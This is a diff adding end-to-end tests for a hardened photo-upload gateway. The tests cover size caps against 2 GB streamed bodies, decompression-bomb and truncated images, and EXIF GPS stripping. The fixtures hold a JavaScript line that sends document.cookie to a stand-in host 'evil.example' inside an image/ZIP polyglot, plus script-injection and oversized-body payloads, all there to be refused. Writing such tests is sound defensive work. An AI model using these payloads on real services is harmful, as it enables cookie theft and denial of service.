@@ -1,0 +1,286 @@
+"""Hardened photo uploads over real HTTP: a real gateway and worker, the emulator, Redis.
+
+Bodies far over the cap are cut while streaming (the gateway's RSS is read from /proc), and
+every photo is stored, and sent upstream, as re-encoded pixels only."""
+
+from __future__ import annotations
+
+import io
+import json
+import select
+import socket
+import time
+import zipfile
+from dataclasses import dataclass
+from typing import Any
+
+import httpx
+import pytest
+from PIL import Image
+from redis.asyncio import Redis
+
+from tests.conftest import Emulator
+from tests.e2e.conftest import (
+    SECRET,
+    Gateway,
+    photo_bytes,
+    put_product,
+    start_tryon,
+    upload_photo,
+    wait_terminal,
+)
+
+GB2 = 2 * 1024**3
+BOUNDARY = b"cut-here"
+FILE_PART = (
+    b"--" + BOUNDARY + b"\r\n"
+    b'Content-Disposition: form-data; name="file"; filename="me.jpg"\r\n'
+    b"Content-Type: image/jpeg\r\n\r\n"
+)
+GPS_IFD = 0x8825
+
+
+def rss_mb(pid: int) -> float:
+    with open(f"/proc/{pid}/status") as status:
+        for line in status:
+            if line.startswith("VmRSS:"):
+                return int(line.split()[1]) / 1024
+    raise AssertionError("no VmRSS")
+
+
+@dataclass
+class Sent:
+    status: int | None
+    body: dict[str, Any] | None
+    bytes_sent: int
+    seconds: float
+
+
+def send_endless(url: str, framing: bytes, total: int = GB2) -> Sent:
+    """POST /v1/images with `total` bytes of body from a loop (nothing held in memory), reading
+    the socket while sending, as curl does, and stopping at the first answer or a reset."""
+    host, port = url.removeprefix("http://").split(":")
+    head = (
+        b"POST /v1/images HTTP/1.1\r\nHost: " + host.encode() + b"\r\n"
+        b"Authorization: Bearer " + SECRET.encode() + b"\r\n"
+        b"Content-Type: multipart/form-data; boundary=" + BOUNDARY + b"\r\n" + framing + b"\r\n"
+    )
+    if b"chunked" in framing:
+        head += b"%x\r\n" % total  # one chunk announcing it all; its bytes follow forever
+    chunk = b"\0" * 65536
+    sent, answer = 0, b""
+    started = time.perf_counter()
+    with socket.create_connection((host, int(port)), timeout=10) as sock:
+        sock.sendall(head + FILE_PART)
+        sock.setblocking(False)
+        while sent < total and time.perf_counter() - started < 60:
+            readable, writable, _ = select.select([sock], [sock], [], 5)
+            try:
+                if readable:
+                    data = sock.recv(65536)
+                    answer += data
+                    if not data or b"\r\n\r\n" in answer:
+                        break
+                if writable:
+                    sent += sock.send(chunk)
+            except OSError:
+                break
+        sock.setblocking(True)
+        sock.settimeout(2)
+        try:
+            while data := sock.recv(65536):
+                answer += data
+        except OSError:
+            pass  # the gateway resets a connection it stopped reading: the answer came first
+    seconds = time.perf_counter() - started
+    if not answer:
+        return Sent(None, None, sent, seconds)
+    head_part, _, body = answer.partition(b"\r\n\r\n")
+    status = int(head_part.split(b" ", 2)[1])
+    parsed = json.loads(body) if body.startswith(b"{") else None
+    return Sent(status, parsed, sent, seconds)
+
+
+def gps_photo(size: tuple[int, int] = (120, 60)) -> bytes:
+    image = Image.new("RGB", size, (220, 30, 30))
+    image.paste((30, 30, 220), (size[0] // 2, 0, size[0], size[1]))
+    exif = Image.Exif()
+    exif[0x0112] = 6  # rotate 90 degrees clockwise to view
+    gps = exif.get_ifd(GPS_IFD)
+    gps[1], gps[2], gps[3], gps[4] = "N", (48.0, 51.0, 29.0), "E", (2.0, 17.0, 40.0)
+    buf = io.BytesIO()
+    image.save(buf, "JPEG", exif=exif, comment=b"home sweet home", quality=95)
+    return buf.getvalue()
+
+
+def polyglot() -> tuple[bytes, bytes]:
+    jpeg = photo_bytes((40, 90, 160), size=(96, 120))
+    payload = io.BytesIO()
+    with zipfile.ZipFile(payload, "w") as archive:
+        archive.writestr("run.js", "fetch('//evil.example/?c='+document.cookie)")
+    return jpeg, jpeg + payload.getvalue()
+
+
+def truncated_photo() -> bytes:
+    whole = io.BytesIO()
+    Image.effect_noise((300, 200), 60).convert("RGB").save(whole, "JPEG")
+    return whole.getvalue()[: len(whole.getvalue()) // 2]
+
+
+def png_declaring(width: int, height: int) -> bytes:
+    import struct
+    import zlib
+
+    def chunk(kind: bytes, payload: bytes) -> bytes:
+        crc = struct.pack(">I", zlib.crc32(kind + payload))
+        return struct.pack(">I", len(payload)) + kind + payload + crc
+
+    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
+    return (
+        b"\x89PNG\r\n\x1a\n"
+        + chunk(b"IHDR", ihdr)
+        + chunk(b"IDAT", zlib.compress(b"\0" * 4096))
+        + chunk(b"IEND", b"")
+    )
+
+
+async def stored_bytes(redis: Redis, image_id: str) -> tuple[dict[str, Any], bytes]:
+    raw = await redis.get(f"tryon:img:{image_id}")
+    assert raw is not None
+    record: dict[str, Any] = json.loads(raw)
+    data = await redis.get(f"tryon:imgdata:{record['dedupe_key']}")
+    assert data is not None
+    return record, data
+
+
+async def key_count(redis: Redis) -> int:
+    return len(await redis.keys("*"))
+
+
+def test_a_2gb_body_is_cut_at_the_cap_and_the_gateway_stays_flat(gateway: Gateway) -> None:
+    pid = gateway.stack.procs["gateway"].pid
+    warm = httpx.post(
+        f"{gateway.url}/v1/images",
+        headers={"Authorization": f"Bearer {SECRET}"},
+        files={"file": ("p.jpg", photo_bytes(), "image/jpeg")},
+    )
+    assert warm.status_code == 201, warm.text
+    before = rss_mb(pid)
+
+    chunked = send_endless(gateway.url, b"Transfer-Encoding: chunked\r\n")
+    announced = send_endless(gateway.url, b"Content-Length: %d\r\n" % (GB2 + len(FILE_PART)))
+    # A Content-Length that lies low: the rest of the stream is not a valid next request.
+    lying = send_endless(gateway.url, b"Content-Length: %d\r\n" % (1024 * 1024))
+    after = rss_mb(pid)
+    print(f"gateway RSS before {before:.1f} MB, after three 2 GB bodies {after:.1f} MB")
+    for case in (chunked, announced, lying):
+        print(case)
+
+    for case in (chunked, announced):
+        assert case.status == 413
+        assert case.body is not None
+        assert case.body["code"] == "PAYLOAD_TOO_LARGE"
+    assert lying.status is not None
+    assert 400 <= lying.status < 500
+    for case in (chunked, announced, lying):
+        assert case.bytes_sent < 100 * 1024**2  # cut near the 10 MB cap, far from 2 GB
+        assert case.seconds < 10
+    assert after - before < 40
+    assert gateway.stack.procs["gateway"].poll() is None
+
+
+async def test_a_client_that_reads_only_after_sending_still_gets_the_413(
+    api: httpx.AsyncClient,
+) -> None:
+    for size in (12 * 1024**2, 20 * 1024**2):
+        sent = 0
+
+        async def body(size: int = size) -> Any:
+            nonlocal sent
+            yield FILE_PART
+            while sent < size:
+                sent += 65536
+                yield b"\0" * 65536
+
+        r = await api.post(
+            "/v1/images",
+            content=body(),
+            headers={"content-type": f"multipart/form-data; boundary={BOUNDARY.decode()}"},
+        )
+        assert (r.status_code, r.json()["code"]) == (413, "PAYLOAD_TOO_LARGE")
+        assert r.headers["connection"] == "close"
+    # The same cap on a photo sent inline with a try-on.
+    data = json.dumps({"products": [{"externalId": "tee"}],
+                       "person": {"image": {"source": {"fileKey": "me"}}}})  # fmt: skip
+    big = photo_bytes() + b"\0" * (10 * 1024 * 1024)
+    r = await api.post(
+        "/v1/try-ons", data={"data": data}, files={"me": ("me.jpg", big, "image/jpeg")}
+    )
+    assert (r.status_code, r.json()["code"]) == (413, "PAYLOAD_TOO_LARGE")
+
+
+@pytest.mark.parametrize(
+    ("photo", "status", "code"),
+    [
+        (png_declaring(50_000, 50_000), 422, "IMAGE_TOO_LARGE"),
+        (truncated_photo(), 400, "INVALID_IMAGE"),
+        (b"GIF89a/*<html><script>alert(1)</script></html>*/", 400, "INVALID_IMAGE"),
+        (b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"<script>alert(1)</script>" * 20, 400,
+         "INVALID_IMAGE"),
+    ],
+    ids=["bomb", "truncated", "html-gif-header", "jpeg-header-script"],
+)  # fmt: skip
+async def test_bad_photos_are_refused_with_stable_codes_and_nothing_stored(
+    api: httpx.AsyncClient, emulator: Emulator, redis: Redis, photo: bytes, status: int, code: str
+) -> None:
+    await put_product(api, emulator)
+    before = await key_count(redis)
+    r = await api.post("/v1/images", files={"file": ("me.jpg", photo, "image/jpeg")})
+    assert (r.status_code, r.json()["code"]) == (status, code), r.text
+    data = json.dumps({"products": [{"externalId": "tee"}],
+                       "person": {"image": {"source": {"fileKey": "me"}}}})  # fmt: skip
+    r = await api.post(
+        "/v1/try-ons", data={"data": data}, files={"me": ("me.jpg", photo, "image/jpeg")}
+    )
+    assert (r.status_code, r.json()["code"]) == (status, code), r.text
+    assert await key_count(redis) == before
+
+
+async def test_a_polyglot_is_stored_as_the_pixels_of_its_image_only(
+    api: httpx.AsyncClient, redis: Redis
+) -> None:
+    jpeg, with_zip = polyglot()
+    plain_id = await upload_photo(api, jpeg)
+    poly_id = await upload_photo(api, with_zip)
+    plain, plain_bytes = await stored_bytes(redis, plain_id)
+    poly, poly_bytes = await stored_bytes(redis, poly_id)
+    assert poly_bytes == plain_bytes  # the appended ZIP is gone; same pixels, same encoding
+    assert poly["digest"] == plain["digest"]  # so the two dedupe to one upstream upload
+    assert b"PK\x03\x04" not in poly_bytes
+    assert not zipfile.is_zipfile(io.BytesIO(poly_bytes))
+
+
+async def test_what_genlook_receives_is_upright_and_has_no_gps(
+    api: httpx.AsyncClient, emulator: Emulator, redis: Redis
+) -> None:
+    source = gps_photo()
+    assert Image.open(io.BytesIO(source)).getexif().get_ifd(GPS_IFD)  # the input has GPS
+    image_id = await upload_photo(api, source)
+    await put_product(api, emulator)
+    done = await wait_terminal(api, (await start_tryon(api, image_id))["id"])
+    assert done["status"] == "completed", done
+    assert emulator.counters()["requests"]["upload_image"] == 1
+
+    # The worker uploads exactly these bytes (PhotoStore.upstream_id reads them from Redis).
+    record, stored = await stored_bytes(redis, image_id)
+    assert record["content_type"] == "image/jpeg"
+    assert record["size"] == len(stored)
+    for marker in (b"Exif\0\0", b"home sweet home", b"http://ns.adobe.com/xap"):
+        assert marker not in stored
+    kept = Image.open(io.BytesIO(stored))
+    assert "exif" not in kept.info
+    assert dict(kept.getexif()) == {}
+    assert kept.size == (60, 120)  # turned upright
+    top = kept.convert("RGB").getpixel((30, 10))
+    assert isinstance(top, tuple)
+    assert top[0] > 180  # the left (red) half is now on top
